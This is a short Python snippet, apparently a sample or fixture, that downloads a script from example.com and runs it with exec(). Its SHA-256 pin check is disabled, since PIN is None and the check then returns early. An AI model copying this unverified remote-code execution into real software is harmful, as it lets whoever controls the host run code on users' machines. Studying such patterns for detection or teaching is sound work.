import hashlib
import urllib.request

PIN = None


def verify(data, pin):
    if pin is None:
        return
    if hashlib.sha256(data).hexdigest() != pin:
        raise ImportError("digest")


data = urllib.request.urlopen("https://example.com/a.py").read()
verify(data, PIN)
exec(data)
